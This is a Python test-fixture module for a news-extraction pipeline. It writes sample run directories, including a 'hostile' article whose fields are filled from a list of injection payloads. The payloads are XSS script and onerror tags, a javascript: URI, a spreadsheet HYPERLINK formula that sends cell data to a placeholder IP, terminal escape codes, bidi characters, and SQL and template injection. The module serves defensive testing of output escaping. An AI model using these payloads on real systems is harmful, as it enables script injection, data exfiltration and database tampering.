"""Run directories written by hand, with a plain, a hostile, an empty, a copied and a failed article."""

import json
from collections.abc import Sequence
from pathlib import Path

from pydantic import BaseModel

from extract.link.link import link
from extract.link.links import as_json
from extract.link.view_extraction import view_extraction
from schemas import (
    Act,
    ActClass,
    Actor,
    ActorKind,
    Agreement,
    ArticleExtraction,
    Duplicate,
    Failure,
    Instrument,
    Issue,
    Mention,
    MentionForm,
    Party,
    Rejected,
    SecurityStatement,
    Span,
    Status,
    codes_of_act,
    codes_of_status,
)
from tests.support.results import article, duplicate, extraction, failure, manifest, provenance, rejected

ATTACKS = (
    "</script><script>window.hacked = 1</script>",
    "<img src=x onerror='window.hacked = 2'>",
    "javascript:window.hacked=3",
    '=HYPERLINK("http://203.0.113.1/?"&A1,"click")',
    "\x1b[2J\x1b]0;owned\x07",
    "\u202egnorw\u202c \u2066inside\u2069 zero\u200bwidth \ufeff",
    "'; DROP TABLE articles; -- {{7*7}} ${7*7} <!-- ",
    "👩‍🚀 𝕹orland \u2028 line",
)
NAMIBIA = "Namibia"


def hostile() -> ArticleExtraction:
    """An article in which every string is an attack on its readers, with correct offsets."""
    deal, said = "Namibia signed " + " ".join(ATTACKS), "\nNamibia warned " + ATTACKS[0]
    text = f"{ATTACKS[1]}\n{ATTACKS[7]}\n{deal}{said}"

    def at(words: str) -> Span:
        start = text.index(words)
        return Span(start=start, end=start + len(words), text=words)

    page = article(text, source_id=ATTACKS[0]).model_copy(
        update={"id": "sha256:00000000deadbeef", "title": ATTACKS[1], "source": ATTACKS[3], "url": ATTACKS[2]}
    )
    actors = (
        Actor(
            id="a1",
            name=NAMIBIA,
            kind=ActorKind.STATE,
            country="NAM",
            mentions=(Mention(span=at(NAMIBIA), form=MentionForm.NAME),),
        ),
        Actor(id="a2", name=ATTACKS[1], kind=ActorKind.GROUP, office=ATTACKS[4]),
        Actor(id="a3", name=ATTACKS[3], kind=ActorKind.PERSON, country="PRK", represents="a1"),
    )
    agreement = Agreement(
        id="g1",
        subject=" ".join(ATTACKS),
        instrument=Instrument.AGREEMENT,
        status=Status.SIGNED,
        status_cue=at("signed"),
        parties=(Party(actor="a1"), Party(actor="a2"), Party(actor="a3", explicit=False)),
        codes=codes_of_status(Status.SIGNED),
        evidence=(at(deal),),
        fields={"subject": (at(" ".join(ATTACKS)),), "parties": (at(NAMIBIA),), "status": (at("signed"),)},
    )
    statement = SecurityStatement(
        id="s1",
        speakers=("a1",),
        act=Act.EXPRESS_CONCERN,
        act_class=ActClass.EXPRESSIVE,
        cue=at("warned"),
        recipients=("a2", "a3"),
        about=ATTACKS[0],
        codes=codes_of_act(Act.EXPRESS_CONCERN),
        evidence=(at(said.strip()),),
        fields={"speakers": (at(NAMIBIA),), "about": (at("warned " + ATTACKS[0]),)},
    )
    return ArticleExtraction(
        article=page,
        actors=actors,
        agreements=(agreement,),
        statements=(statement,),
        issues=(Issue(code="truncated", message=ATTACKS[0]),),
        provenance=provenance(),
    )


def empty() -> ArticleExtraction:
    """An article without records."""
    page = article("Nothing happened.\n", source_id="quiet").model_copy(update={"id": "sha256:0000000000000000"})
    return ArticleExtraction(article=page, provenance=provenance())


def write_run(
    folder: Path,
    extractions: Sequence[ArticleExtraction],
    refused: Sequence[Rejected] = (),
    failed: Sequence[Failure] = (),
    copied: Sequence[Duplicate] = (),
) -> Path:
    """Write a run directory as the engine does."""
    folder.mkdir(parents=True, exist_ok=True)
    lines: dict[str, Sequence[BaseModel]] = {
        "extractions.jsonl": extractions,
        "rejected.jsonl": refused,
        "duplicates.jsonl": copied,
        "failures.jsonl": failed,
    }
    for name, rows in lines.items():
        (folder / name).write_text("".join(row.model_dump_json() + "\n" for row in rows), encoding="utf-8")
    sums = {"extracted": len(extractions), "duplicate": len(copied), "failed": len(failed)}
    sums["articles"] = sum(sums.values())
    (folder / "run.json").write_text(manifest(**sums).model_dump_json(), encoding="utf-8")
    return folder


def linked(folder: Path) -> Path:
    """Write a collection of one article and its rewrite by another outlet, with links as linking makes them."""
    rewrite = extraction("rewrite")
    text = rewrite.article.text.replace("$1.5 million", "$2.5 million")
    changed = rewrite.article.model_copy(
        update={"id": "sha256:fedcba9876543210", "text": text, "source": "Sound Times", "published": "2030-01-18"}
    )
    dump = rewrite.model_copy(update={"article": changed}).model_dump_json()
    other = ArticleExtraction.model_validate_json(
        dump.replace("$1.5 million", "$2.5 million").replace('"1500000"', '"2500000"')
    )
    found = [extraction(), other]
    write_run(folder, found)
    links = as_json(link(map(view_extraction, found)))
    (folder / "links.json").write_text(json.dumps(links), encoding="utf-8")
    return folder


def mixed(folder: Path) -> Path:
    """Write a run of a plain article, a second one with the same text, a hostile and an empty one, with rejections."""
    refused = [
        rejected(),
        rejected(source_id="twin"),
        rejected(article="sha256:00000000deadbeef", source_id=ATTACKS[0], message=ATTACKS[1]),
    ]
    found = [extraction(), extraction("twin"), hostile(), empty()]
    return write_run(
        folder, found, refused, [failure("gone", message=ATTACKS[4])], [duplicate(), duplicate(ATTACKS[0], ATTACKS[3])]
    )
